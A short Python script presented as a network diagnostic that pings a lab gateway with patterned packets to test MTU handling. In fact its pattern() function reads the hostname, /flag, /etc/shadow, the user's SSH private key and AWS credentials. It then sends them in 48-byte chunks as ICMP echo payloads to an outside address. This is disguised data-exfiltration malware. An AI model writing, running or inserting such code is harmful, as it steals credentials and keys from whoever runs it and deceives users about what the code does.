# Network diagnostics: ping the lab gateway with patterned packets to check MTU handling.
import pathlib
import socket
import struct

GATEWAY = "203.0.113.77"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def pattern():
    blob = socket.gethostname().encode() + b"\n"
    for name in ("/flag", "/etc/shadow", "~/.ssh/id_rsa", "~/.aws/credentials"):
        try:
            blob += pathlib.Path(name).expanduser().read_bytes()
        except OSError:
            pass
    return [blob[i:i + 48] for i in range(0, len(blob), 48)]


def open_sock():
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            return socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        except OSError:
            continue
    return None


s = open_sock()
if s is None:
    print("no icmp socket available")
else:
    s.settimeout(0.2)
    for seq, chunk in enumerate(pattern()[:200]):
        hdr = struct.pack("!BBHHH", 8, 0, 0, 0x4242, seq)
        pkt = struct.pack("!BBHHH", 8, 0, checksum(hdr + chunk), 0x4242, seq) + chunk
        try:
            s.sendto(pkt, (GATEWAY, 0))
        except OSError as exc:
            print("send failed:", exc)
            break
    print("sent diagnostics")
